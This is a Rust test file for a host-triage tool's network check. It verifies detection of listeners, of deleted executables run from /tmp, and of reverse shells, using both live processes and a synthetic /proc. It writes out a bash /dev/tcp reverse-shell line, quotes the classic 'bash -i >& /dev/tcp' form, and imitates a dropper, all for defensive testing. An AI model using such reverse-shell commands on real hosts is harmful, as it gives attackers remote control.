//! Live network checks: a real listener started from a deleted copy of an executable in
//! /tmp, and a reverse-shell-like bash whose fd is a TCP connection to a listener the test
//! owns. Both must be reported with their exact pid.

mod common;

use rampart_core::{HostRoot, Report};
use rampart_testkit::KillOnDrop;
use rampart_triage::checks::network::Network;
use rampart_triage::{Check, Context, Options};
use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn live_proc() -> bool {
    if !Path::new("/proc/self/stat").exists() || !Path::new("/proc/net/tcp").exists() {
        eprintln!("skipped: /proc is not available");
        return false;
    }
    true
}

fn run_network() -> Report {
    let ctx = Context::new(HostRoot::live(), Options::default());
    rampart_triage::run(&ctx, &[Box::new(Network::new()) as Box<dyn Check>])
}

/// Not a test on its own: when started with `RAMPART_TEST_LISTENER=1` (by the test below,
/// from a copy of this very binary), listens on a free loopback port, prints it, waits.
#[test]
fn helper_listener() {
    if std::env::var_os("RAMPART_TEST_LISTENER").is_none() {
        return;
    }
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    println!("PORT={}", l.local_addr().unwrap().port());
    std::thread::sleep(Duration::from_secs(60));
}

#[test]
fn listener_from_deleted_executable_in_tmp_is_reported_with_its_pid() {
    if !live_proc() {
        return;
    }
    // A copy of this test binary, run from /tmp and deleted, as a dropper would.
    let dir = tempfile::Builder::new()
        .prefix("rampart-net-")
        .tempdir_in("/tmp")
        .unwrap();
    let exe = dir.path().join("x");
    std::fs::copy(std::env::current_exe().unwrap(), &exe).unwrap();
    let mut child = KillOnDrop(rampart_testkit::process::spawn_fresh_copy(
        Command::new(&exe)
            .args(["--exact", "helper_listener", "--nocapture", "--test-threads=1"])
            .env("RAMPART_TEST_LISTENER", "1")
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    ));
    let pid = child.0.id();
    let mut out = BufReader::new(child.0.stdout.take().unwrap());
    let port: u16 = loop {
        let mut line = String::new();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "listener exited before printing its port"
        );
        // libtest may print "test helper_listener ... " on the same line first.
        if let Some(at) = line.find("PORT=") {
            break line[at + 5..].trim().parse().unwrap();
        }
    };
    std::fs::remove_file(&exe).unwrap();

    let report = run_network();
    let listeners = common::expect_id(&report, "network.listeners");
    let ev = listeners
        .evidence
        .iter()
        .find(|e| e.location == format!("tcp 127.0.0.1:{port}"))
        .unwrap_or_else(|| panic!("listener on {port} not listed: {listeners:#?}"));
    assert_eq!(ev.pid, Some(pid));
    assert!(ev.detail.contains(&format!("pid {pid} x (")), "{}", ev.detail);
    assert!(ev.detail.contains("(deleted)"), "{}", ev.detail);

    let deleted: Vec<_> = common::with_id(&report, "network.exe-in-temp")
        .into_iter()
        .filter(|f| f.evidence.iter().any(|e| e.pid == Some(pid)))
        .collect();
    assert_eq!(deleted.len(), 1, "{:#?}", report.findings);
    let f = deleted[0];
    assert_eq!(f.severity, rampart_core::Severity::Critical);
    assert_eq!(
        f.action.as_deref(),
        Some(format!("kill-quarantine pid={pid}").as_str())
    );
    assert!(
        f.evidence[0]
            .detail
            .contains(&format!("listens on tcp 127.0.0.1:{port}")),
        "{f:#?}"
    );
}

#[test]
fn shell_wired_to_a_tcp_connection_is_a_reverse_shell() {
    if !live_proc() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // bash opens the connection itself, as `bash -i >& /dev/tcp/host/port` does.
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; sleep 60 <&3 >&3");
    let bash = KillOnDrop(
        Command::new("/bin/bash")
            .args(["-c", &script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = bash.0.id();
    listener.set_nonblocking(true).unwrap();
    let start = Instant::now();
    let _conn = loop {
        match listener.accept() {
            Ok((c, _)) => break c,
            Err(_) if start.elapsed() < Duration::from_secs(10) => {
                std::thread::sleep(Duration::from_millis(20))
            }
            Err(e) => panic!("bash never connected: {e}"),
        }
    };

    let report = run_network();
    let shells = common::with_id(&report, "network.reverse-shell");
    let f = shells
        .iter()
        .find(|f| f.evidence.iter().any(|e| e.pid == Some(pid)))
        .unwrap_or_else(|| panic!("bash pid {pid} not reported: {:#?}", report.findings));
    assert_eq!(f.severity, rampart_core::Severity::Critical);
    assert!(
        f.evidence
            .iter()
            .any(|e| e.detail == format!("connected to 127.0.0.1:{port}") && e.location.contains("fd 3")),
        "{f:#?}"
    );

    // The listener side (this test process, not a shell) is not called a reverse shell.
    let me = std::process::id();
    assert!(!shells
        .iter()
        .any(|f| f.evidence.iter().any(|e| e.pid == Some(me))));
}

#[test]
fn missing_proc_is_a_counted_error_not_a_crash() {
    let ctx = Context::new(HostRoot::live(), Options::default());
    let dir = tempfile::tempdir().unwrap();
    let report = rampart_triage::run(
        &ctx,
        &[Box::new(Network::with_proc(dir.path().join("proc"))) as Box<dyn Check>],
    );
    assert_eq!(report.errors.len(), 1, "{report:#?}");
    assert!(
        report.errors[0].message.contains("/proc is not mounted"),
        "{:?}",
        report.errors
    );
    assert!(report.findings.is_empty());
}

/// A synthetic `/proc`: sockets and processes planted as files and symlinks, so every
/// branch of the check is exercised with exact values.
fn fake_proc() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    let w = |rel: &str, text: &str| {
        let f = p.join(rel);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, text).unwrap();
    };
    let link = |target: &str, rel: &str| {
        let f = p.join(rel);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, f).unwrap();
    };
    w(
        "self/stat",
        "1 (init) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 1 0 0\n",
    );
    w("stat", "cpu 1 2 3\nbtime 1795600000\n");
    let hdr =
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
    w(
        "net/tcp",
        &format!(
            "{hdr}   0: 00000000:18EB 00000000:0000 0A 00000000:00000000 00:00000000 00000000   112        0 1111 1 0 100 0 0 10 0\n   \
             1: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 2222 1 0 100 0 0 10 0\n   \
             2: 0500000A:9C40 097100CB:115C 01 00000000:00000000 00:00000000 00000000    33        0 3333 1 0 100 0 0 10 0\n"
        ),
    );
    w("net/udp", hdr);
    let proc = |pid: u32, comm: &str, uid: u32, exe: &str, fds: &[(u32, u64)]| {
        w(&format!("{pid}/comm"), &format!("{comm}\n"));
        w(
            &format!("{pid}/stat"),
            &format!("{pid} ({comm}) S 1 {pid} {pid} 0 -1 4194304 0 0 0 0 0 0 0 0 20 0 1 0 360000 0 0\n"),
        );
        w(
            &format!("{pid}/status"),
            &format!("Name:\t{comm}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\n"),
        );
        link(exe, &format!("{pid}/exe"));
        std::fs::create_dir_all(p.join(format!("{pid}/fd"))).unwrap();
        for (fd, inode) in fds {
            link(&format!("socket:[{inode}]"), &format!("{pid}/fd/{fd}"));
        }
    };
    proc(100, "redis-server", 112, "/usr/bin/redis-server", &[(5, 1111)]);
    proc(200, "sh", 33, "/usr/bin/dash", &[(0, 3333), (1, 3333), (2, 3333)]);
    proc(300, "kworkerd", 0, "/tmp/.x/kworkerd (deleted)", &[]);
    proc(400, "oldd", 0, "/usr/sbin/rampart-no-such-daemon (deleted)", &[]);
    d
}

#[test]
fn synthetic_proc_exercises_every_finding() {
    let fake = fake_proc();
    let ctx = Context::new(HostRoot::live(), Options::default());
    let r = rampart_triage::run(
        &ctx,
        &[Box::new(Network::with_proc(fake.path())) as Box<dyn Check>],
    );
    assert!(r.errors.is_empty(), "{:#?}", r.errors);

    let l = common::expect_id(&r, "network.listeners");
    assert_eq!(l.evidence.len(), 2, "{l:#?}");
    let redis = l
        .evidence
        .iter()
        .find(|e| e.location == "tcp 0.0.0.0:6379")
        .unwrap();
    assert_eq!(redis.pid, Some(100));
    // starttime 360000 ticks at 100 Hz = 1 h after boot (btime 2026-11-25 09:46:40 UTC).
    assert!(
        redis
            .detail
            .starts_with("pid 100 redis-server (/usr/bin/redis-server) user ")
            && redis.detail.ends_with(" since 2026-11-25 10:46"),
        "{}",
        redis.detail
    );
    let lo = l
        .evidence
        .iter()
        .find(|e| e.location == "tcp 127.0.0.1:8080")
        .unwrap();
    assert!(lo.detail.starts_with("owner unknown"), "{}", lo.detail);
    assert_eq!(lo.pid, None);

    let exposed = common::expect_id(&r, "network.exposed-cache");
    assert_eq!(exposed.evidence[0].pid, Some(100));
    assert_eq!(exposed.action.as_deref(), Some("firewall-baseline"));
    // The loopback-only listener is not flagged.
    assert_eq!(
        r.findings
            .iter()
            .filter(|f| f.id.starts_with("network.exposed"))
            .count(),
        1
    );

    let shell = common::expect_id(&r, "network.reverse-shell");
    assert_eq!(shell.evidence[0].pid, Some(200));
    assert!(shell.remedy.contains("parent pid 1"), "{}", shell.remedy);
    assert!(
        shell
            .evidence
            .iter()
            .any(|e| e.location == "tcp 10.0.0.5:40000 fd 0" && e.detail == "connected to 203.0.113.9:4444"),
        "{shell:#?}"
    );

    let temp = common::expect_id(&r, "network.exe-in-temp");
    assert_eq!(temp.evidence[0].pid, Some(300));
    assert_eq!(temp.action.as_deref(), Some("kill-quarantine pid=300"));
    let deleted = common::expect_id(&r, "network.deleted-exe");
    assert_eq!(deleted.evidence[0].pid, Some(400));
    assert!(
        deleted.title.contains("/usr/sbin/rampart-no-such-daemon"),
        "{}",
        deleted.title
    );
}

#[test]
fn public_api_lists_our_own_listener_and_process() {
    if !live_proc() {
        return;
    }
    use rampart_triage::procnet::{listening_sockets, ProcFs};
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let (sockets, errors) = listening_sockets(&HostRoot::live()).unwrap();
    assert!(errors.is_empty(), "{errors:?}");
    let me = std::process::id();
    let s = sockets
        .iter()
        .find(|s| s.local.port() == port)
        .unwrap_or_else(|| panic!("{sockets:#?}"));
    assert_eq!(s.label(), format!("tcp 127.0.0.1:{port}"));
    assert!(s.pids.contains(&me), "{s:?}");

    let procfs = ProcFs::new("/proc");
    let p = procfs.process(me, &procfs.clock()).unwrap();
    let exe = std::env::current_exe().unwrap();
    assert_eq!(p.exe.as_ref().unwrap().path, exe.display().to_string());
    // SAFETY: getuid has no preconditions.
    assert_eq!(p.uid, Some(unsafe { libc::getuid() }));
    let age = std::time::SystemTime::now()
        .duration_since(p.start.unwrap())
        .unwrap();
    assert!(age < Duration::from_secs(3600), "started {age:?} ago?");
}
